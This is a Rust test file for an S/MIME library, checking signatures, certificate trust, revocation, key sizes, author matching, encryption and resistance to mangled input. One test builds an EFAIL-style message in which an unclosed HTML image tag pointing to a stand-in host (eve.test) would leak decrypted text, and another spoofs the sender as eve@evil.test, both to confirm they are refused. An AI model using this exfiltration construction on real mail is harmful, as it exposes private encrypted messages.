//! What must not hold, and what must not be read.

use std::time::Duration;

use env::{Clock, ManualClock, SeededEntropy, Timestamp};
use proptest::prelude::*;
use rcgen::{
    BasicConstraints, CertificateParams, CertificateRevocationListParams, DnType, ExtendedKeyUsagePurpose, IsCa,
    Issuer, KeyIdMethod, KeyPair, KeyUsagePurpose, RevokedCertParams, SanType, SerialNumber, date_time_ymd,
};

use super::*;

/// 2026-06-01.
const NOW: Timestamp = Timestamp::from_seconds(1_780_272_000);

struct Authority {
    issuer: Issuer<'static, KeyPair>,
    certificate: Certificate,
}

fn authority(name: &str) -> Authority {
    let mut params = CertificateParams::default();
    params.distinguished_name.push(DnType::CommonName, name);
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign];
    (params.not_before, params.not_after) = (date_time_ymd(2020, 1, 1), date_time_ymd(2040, 1, 1));
    let key = KeyPair::generate().unwrap();
    let certificate = Certificate::from_der(params.self_signed(&key).unwrap().der()).unwrap();
    Authority { issuer: Issuer::new(params, key), certificate }
}

impl Authority {
    fn issue(&self, email: &str, change: impl FnOnce(&mut CertificateParams)) -> Identity {
        let mut params = CertificateParams::default();
        params.distinguished_name.push(DnType::CommonName, email);
        params.subject_alt_names = vec![SanType::Rfc822Name(email.try_into().unwrap())];
        params.key_usages = vec![KeyUsagePurpose::DigitalSignature, KeyUsagePurpose::KeyAgreement];
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::EmailProtection];
        params.use_authority_key_identifier_extension = true;
        (params.not_before, params.not_after) = (date_time_ymd(2026, 1, 1), date_time_ymd(2027, 1, 1));
        change(&mut params);
        let key = KeyPair::generate().unwrap();
        let certificate = params.signed_by(&key, &self.issuer).unwrap();
        Identity::new(Certificate::from_der(certificate.der()).unwrap(), Vec::new(), &key.serialize_der()).unwrap()
    }

    fn trust(&self) -> Trust {
        Trust::new(std::slice::from_ref(&self.certificate)).unwrap()
    }

    fn list(&self, revoked: Option<u64>, until: i32) -> Vec<u8> {
        let revoked = revoked.map(|serial| RevokedCertParams {
            serial_number: SerialNumber::from(serial),
            revocation_time: date_time_ymd(2026, 2, 1),
            reason_code: None,
            invalidity_date: None,
        });
        let params = CertificateRevocationListParams {
            this_update: date_time_ymd(2026, 2, 1),
            next_update: date_time_ymd(until, 3, 1),
            crl_number: SerialNumber::from(1),
            issuing_distribution_point: None,
            revoked_certs: revoked.into_iter().collect(),
            key_identifier_method: KeyIdMethod::Sha256,
        };
        params.signed_by(&self.issuer).unwrap().der().to_vec()
    }
}

const LETTER: &str = "From: Ann <ann@trade.test>\r\nTo: bob@trade.test\r\nSubject: Price\r\nX-Other: 1\r\n\
                      Content-Type: text/html\r\n\r\n<p>Ten pieces</p>\r\n";

const OPAQUE: Style = Style { form: Form::Opaque, dialect: Dialect::Cms };

fn entropy() -> SeededEntropy {
    SeededEntropy::new(3)
}

fn signed(identity: &Identity, form: Form) -> String {
    String::from_utf8(
        sign(LETTER.as_bytes(), identity, Style { form, dialect: Dialect::Cms }, NOW, &entropy()).unwrap(),
    )
    .unwrap()
}

fn opened(message: &str, identities: &[Identity], trust: &Trust) -> Result<Opened, Fault> {
    open(message.as_bytes(), identities, trust, NOW, &entropy())
}

/// What is wrong with the one signature.
fn fault(message: &str, trust: &Trust) -> Option<Fault> {
    fault_at(message, trust, NOW)
}

fn fault_at(message: &str, trust: &Trust, now: Timestamp) -> Option<Fault> {
    let opened = open(message.as_bytes(), &[], trust, now, &entropy()).unwrap();
    let signatures: Vec<_> = opened.signatures().collect();
    assert_eq!(signatures.len(), 1);
    assert_eq!(signatures[0].holds(), opened.is_signed_by_author());
    signatures[0].fault.clone()
}

#[test]
fn a_signature_holds_for_what_was_signed() {
    let authority = authority("CA");
    let ann = authority.issue("ann@trade.test", |_| ());
    let clear = signed(&ann, Form::Clear);
    assert_eq!(fault(&clear, &authority.trust()), None);
    assert_eq!(fault(&clear.replace("Ten pieces", "Two pieces"), &authority.trust()), Some(Fault::Altered));
    // As servers that change line breaks leave it.
    assert_eq!(fault(&clear.replace("\r\n", "\n"), &authority.trust()), None);
    assert_eq!(fault(&signed(&ann, Form::Opaque), &authority.trust()), None);
    // Another signature over the same, of a message of before.
    let before = sign(LETTER.replace("Ten", "Six").as_bytes(), &ann, Style::CLEAR, NOW, &entropy()).unwrap();
    let before = String::from_utf8(before).unwrap();
    let (text, _) = clear.split_once("Content-Type: application/pkcs7-signature").unwrap();
    let (_, signature) = before.split_once("Content-Type: application/pkcs7-signature").unwrap();
    let mixed = format!("{text}Content-Type: application/pkcs7-signature{signature}");
    assert_eq!(fault(&mixed, &authority.trust()), Some(Fault::Altered));
}

#[test]
fn a_signature_that_was_taken_out_is_missed() {
    let authority = authority("CA");
    let clear = signed(&authority.issue("ann@trade.test", |_| ()), Form::Clear);
    for (from, to) in [("application/pkcs7-signature; name", "text/plain; name"), ("micalg=sha-256", "micalg=none")] {
        let changed = clear.replacen(from, to, 1);
        let found = opened(&changed, &[], &authority.trust());
        // What names its digest wrongly holds all the same: the signature says it itself.
        let is_missed = found == Err(Fault::NoSignature);
        assert!(is_missed || from.starts_with("micalg") && found.unwrap().is_signed_by_author(), "{from}");
    }
    // Without a signer inside.
    let empty = asn1::sequence(&[
        &asn1::number(1),
        &asn1::element(asn1::SET, &[]),
        &asn1::sequence(&[&asn1::oid(oid::DATA), &asn1::element(asn1::field(0), &[&asn1::octets(b"\r\nx")])]),
        &asn1::element(asn1::SET, &[]),
    ]);
    let unsigned = structure(&content::write(oid::SIGNED_DATA, &empty));
    assert_eq!(fault(&unsigned, &authority.trust()), Some(Fault::NoSignature));
}

/// A message whose body is `octets`.
fn structure(octets: &[u8]) -> String {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(octets);
    format!(
        "From: ann@trade.test\r\nSubject: [...]\r\nContent-Type: application/pkcs7-mime\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n"
    )
}

#[test]
fn who_signs_must_be_vouched_for_now_and_for_this() {
    let (ours, other) = (authority("CA"), authority("Other"));
    let ann = ours.issue("ann@trade.test", |params| params.serial_number = Some(SerialNumber::from(5)));
    let (message, subject) = (signed(&ann, Form::Clear), "ann@trade.test".to_owned());
    assert!(matches!(fault(&message, &other.trust()), Some(Fault::Untrusted { .. })));
    assert!(matches!(fault(&message, &Trust::default()), Some(Fault::Untrusted { .. })));
    assert_eq!(fault(&message, &Trust::default().with_pinned(ann.certificate.fingerprint())), None);
    let later = NOW.plus(Duration::from_secs(86_400 * 365));
    assert!(matches!(fault_at(&message, &ours.trust(), later), Some(Fault::Expired { .. })));
    let earlier = Timestamp::from_seconds(NOW.seconds() - 86_400 * 200);
    assert!(matches!(fault_at(&message, &ours.trust(), earlier), Some(Fault::NotYetValid { .. })));
    let with = |revoked, until| ours.trust().with_list(&ours.list(revoked, until)).unwrap();
    assert_eq!(fault(&message, &with(Some(5), 2030)), Some(Fault::Revoked { subject: subject.clone() }));
    assert_eq!(fault(&message, &with(Some(6), 2030).needing_lists()), None);
    // A list that is out of date says nothing any more, one that is wanted and missing neither.
    let unknown = Some(Fault::RevocationUnknown { subject: subject.clone() });
    assert_eq!(fault(&message, &with(None, 2026)), unknown);
    assert_eq!(fault(&message, &ours.trust().needing_lists()), unknown);
    let server = ours.issue("ann@trade.test", |params| {
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ServerAuth];
    });
    let needed = "e-mail protection";
    assert_eq!(fault(&signed(&server, Form::Clear), &ours.trust()), Some(Fault::WrongUse { subject, needed }));
    let sealer = ours.issue("ann@trade.test", |params| params.key_usages = vec![KeyUsagePurpose::KeyAgreement]);
    let refused = sign(LETTER.as_bytes(), &sealer, Style::CLEAR, NOW, &entropy());
    assert!(matches!(refused, Err(Fault::WrongUse { .. })));
}

/// A key of RSA as certificates name it, whose modulus has so many bits.
struct Rsa(Vec<u8>);

impl Rsa {
    fn of(bits: usize) -> Self {
        let integer = |octets: Vec<u8>| {
            let length = u16::try_from(octets.len()).unwrap().to_be_bytes();
            [&[0x02, 0x82][..], &length, &octets].concat()
        };
        let mut modulus = vec![0xff; bits / 8];
        modulus[0] = 0x80;
        modulus.insert(0, 0);
        let inside = [integer(modulus), vec![0x02, 0x03, 1, 0, 1]].concat();
        let length = u16::try_from(inside.len()).unwrap().to_be_bytes();
        Self([&[0x30, 0x82][..], &length, &inside].concat())
    }
}

impl rcgen::PublicKeyData for Rsa {
    fn der_bytes(&self) -> &[u8] {
        &self.0
    }

    fn algorithm(&self) -> &'static rcgen::SignatureAlgorithm {
        &rcgen::PKCS_RSA_SHA256
    }
}

#[test]
fn keys_that_are_too_small_or_enormous_are_refused() {
    let ours = authority("CA");
    for (bits, word) in [(1024, "weak"), (16384, "unsupported"), (65536, "unsupported")] {
        let mut params = CertificateParams::default();
        params.subject_alt_names = vec![SanType::Rfc822Name("ann@trade.test".try_into().unwrap())];
        params.key_usages = vec![KeyUsagePurpose::DigitalSignature, KeyUsagePurpose::KeyEncipherment];
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::EmailProtection];
        let made = params.signed_by(&Rsa::of(bits), &ours.issuer).unwrap();
        let certificate = Certificate::from_der(made.der()).unwrap();
        // Neither believed nor encrypted to.
        let refused = [
            ours.trust().check(&certificate, &[], NOW).map(|_| ()).unwrap_err(),
            encrypt(LETTER.as_bytes(), &[&certificate], Recipe::COMPATIBLE, &entropy()).map(|_| ()).unwrap_err(),
        ];
        for fault in refused {
            assert!(fault.word() == word && fault.to_string().contains(&format!("{bits} bits")), "{bits}: {fault}");
        }
    }
}

#[test]
fn who_signs_must_be_the_author() {
    let authority = authority("CA");
    let eve = authority.issue("eve@trade.test", |_| ());
    let found = fault(&signed(&eve, Form::Clear), &authority.trust());
    let (certificate, author) = (vec!["eve@trade.test".to_owned()], "ann@trade.test".to_owned());
    assert_eq!(found, Some(Fault::WrongAuthor { certificate, author }));
    // That she is named as the sender does not help: people see the author. Nor does a second From.
    for more in ["Sender: eve@trade.test\r\n", "From: eve@trade.test\r\n"] {
        let message = format!("{more}{}", signed(&eve, Form::Clear));
        assert!(matches!(fault(&message, &authority.trust()), Some(Fault::WrongAuthor { .. })), "{more}");
    }
    // Case does not matter.
    let ann = authority.issue("Ann@Trade.Test", |_| ());
    assert_eq!(fault(&signed(&ann, Form::Clear), &authority.trust()), None);
}

#[test]
fn what_is_encrypted_opens_for_its_readers_alone_and_unaltered() {
    let authority = authority("CA");
    let [bob, other] = ["bob@trade.test", "other@trade.test"].map(|email| authority.issue(email, |_| ()));
    for recipe in [Recipe::COMPATIBLE, Recipe::STRONG] {
        let sealed = encrypt(LETTER.as_bytes(), &[&bob.certificate], recipe, &entropy()).unwrap();
        let sealed = String::from_utf8(sealed).unwrap();
        assert!(sealed.contains("Subject: [...]\r\n") && sealed.contains("X-Other: 1\r\n"));
        let found = opened(&sealed, std::slice::from_ref(&bob), &authority.trust()).unwrap();
        let text = String::from_utf8(found.message.clone().unwrap()).unwrap();
        assert!(text.contains("Subject: Price\r\n") && text.ends_with("\r\n\r\n<p>Ten pieces</p>\r\n"), "{text}");
        assert!(text.contains("X-Other: 1\r\n") && !text.contains("HP-Outer") && !text.contains("[...]"), "{text}");
        assert_eq!(found.may_be_altered(), !recipe.is_authenticated);
        assert_eq!(opened(&sealed, std::slice::from_ref(&other), &authority.trust()), Err(Fault::NotForUs));
        let (head, body) = sealed.split_once("\r\n\r\n").unwrap();
        let mut octets = mail::message::encoding::decode_base64(body.as_bytes());
        let last = octets.len() - 1;
        octets[last] ^= 1;
        let altered = format!("{head}\r\n\r\n{}", structure(&octets).split_once("\r\n\r\n").unwrap().1);
        assert_eq!(opened(&altered, std::slice::from_ref(&bob), &authority.trust()), Err(Fault::Undecipherable));
    }
    assert_eq!(encrypt(LETTER.as_bytes(), &[], Recipe::STRONG, &entropy()), Err(Fault::NobodyToEncryptTo));
}

/// EFAIL (Poddebniak and others, 2018): text of the thief around the encrypted part would carry what it says away.
#[test]
fn an_encrypted_part_among_others_stays_closed() {
    let authority = authority("CA");
    let bob = [authority.issue("bob@trade.test", |_| ())];
    let sealed = encrypt(LETTER.as_bytes(), &[&bob[0].certificate], Recipe::COMPATIBLE, &entropy()).unwrap();
    let sealed = String::from_utf8(sealed).unwrap();
    let part = &sealed[sealed.find("Content-Type").unwrap()..];
    let around = format!(
        "From: eve@trade.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"http://eve.test/\r\n--b\r\n{part}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
    );
    let found = opened(&around, &bob, &authority.trust()).unwrap();
    assert_eq!((found.message, found.layers), (None, Vec::new()));
    assert!(found.has_encrypted_parts);
}

#[test]
fn the_author_within_does_not_take_the_place_of_the_one_outside() {
    let authority = authority("CA");
    let bob = [authority.issue("bob@trade.test", |_| ())];
    let sealed = encrypt(LETTER.as_bytes(), &[&bob[0].certificate], Recipe::STRONG, &entropy()).unwrap();
    let sealed = String::from_utf8(sealed).unwrap().replace("From: Ann <ann@trade.test>", "From: eve@evil.test");
    let found = opened(&sealed, &bob, &authority.trust()).unwrap();
    let text = String::from_utf8(found.message.unwrap()).unwrap();
    assert!(found.has_other_author && text.contains("From: eve@evil.test\r\n") && !text.contains("ann@trade.test"));
}

#[test]
fn attributes_are_no_content() {
    let authority = authority("CA");
    let ann = authority.issue("ann@trade.test", |_| ());
    let attributes = asn1::element(asn1::SET, &[b"anything"]);
    let made = ann.key.sign(&attributes, Dialect::Cms, &entropy()).unwrap();
    let digest = asn1::algorithm(made.digest.oid(), &[]);
    let signer = asn1::sequence(&[
        &asn1::number(1),
        &ann.certificate.named(),
        &digest,
        &made.algorithm,
        &asn1::octets(&made.signature),
    ]);
    let inside = asn1::element(asn1::field(0), &[&asn1::octets(&attributes)]);
    let signed = asn1::sequence(&[
        &asn1::number(1),
        &asn1::element(asn1::SET, &[&digest]),
        &asn1::sequence(&[&asn1::oid(oid::DATA), &inside]),
        &asn1::element(asn1::field(0), &[ann.certificate.der()]),
        &asn1::element(asn1::SET, &[&signer]),
    ]);
    let message = structure(&content::write(oid::SIGNED_DATA, &signed));
    assert_eq!(fault(&message, &authority.trust()), Some(Fault::Altered));
}

#[test]
fn layers_have_a_limit() {
    let authority = authority("CA");
    let ann = authority.issue("ann@trade.test", |_| ());
    let mut message = LETTER.to_owned();
    for layer in 0..8 {
        let found = opened(&message, &[], &authority.trust());
        assert_eq!(found.is_ok(), layer <= 6, "{layer}");
        let next = sign(message.as_bytes(), &ann, OPAQUE, NOW, &entropy()).unwrap();
        message = String::from_utf8(next).unwrap();
    }
}

#[test]
fn keys_belong_to_their_certificates() {
    let authority = authority("CA");
    let ann = authority.issue("ann@trade.test", |_| ());
    let other = KeyPair::generate().unwrap();
    let refused = Identity::new(ann.certificate.clone(), Vec::new(), &other.serialize_der());
    assert_eq!(refused.unwrap_err(), Fault::KeyMismatch);
    assert_eq!(Certificate::from_der(b"no certificate").unwrap_err(), Fault::Malformed("a certificate"));
    assert_eq!(Identity::from_pkcs12(b"no file", "").unwrap_err().word(), "malformed");
    assert!(ManualClock::at(NOW).now() < ann.certificate.not_after);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 60, ..ProptestConfig::default() })]

    /// Whatever is changed: nothing panics, and what holds is what was signed.
    #[test]
    fn mangled_messages(at in any::<proptest::sample::Index>(), octet in any::<u8>(), cut in any::<bool>()) {
        let authority = authority("CA");
        let ann = [authority.issue("ann@trade.test", |_| ())];
        let whole = sign_and_encrypt(LETTER.as_bytes(), &ann[0], &[&ann[0].certificate], Recipe::COMPATIBLE, NOW, &entropy()).unwrap();
        let opaque = sign(LETTER.as_bytes(), &ann[0], OPAQUE, NOW, &entropy()).unwrap();
        for message in [whole, opaque] {
            let (head, body) = mail::header::split_header_body(&message);
            let mut octets = mail::message::encoding::decode_base64(body);
            let at = at.index(octets.len());
            octets[at] = octet;
            if cut {
                octets.truncate(at);
            }
            let body = structure(&octets);
            let mut mangled = head.to_vec();
            mangled.extend_from_slice(b"\r\n");
            mangled.extend_from_slice(body.split_once("\r\n\r\n").unwrap().1.as_bytes());
            let found = open(&mangled, &ann, &authority.trust(), NOW, &entropy());
            if let Ok(found) = found && found.is_signed_by_author() {
                let text = String::from_utf8_lossy(&found.message.unwrap()).into_owned();
                prop_assert!(text.contains("<p>Ten pieces</p>\r\n"), "{}", text);
            }
        }
    }

    #[test]
    fn any_file(file in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = Certificate::read_file(&file);
        let _ = Identity::from_pkcs12(&file, "x");
        let _ = Identity::from_pem(&file);
        let _ = content::read(&file);
    }
}

mod gm_dialects;
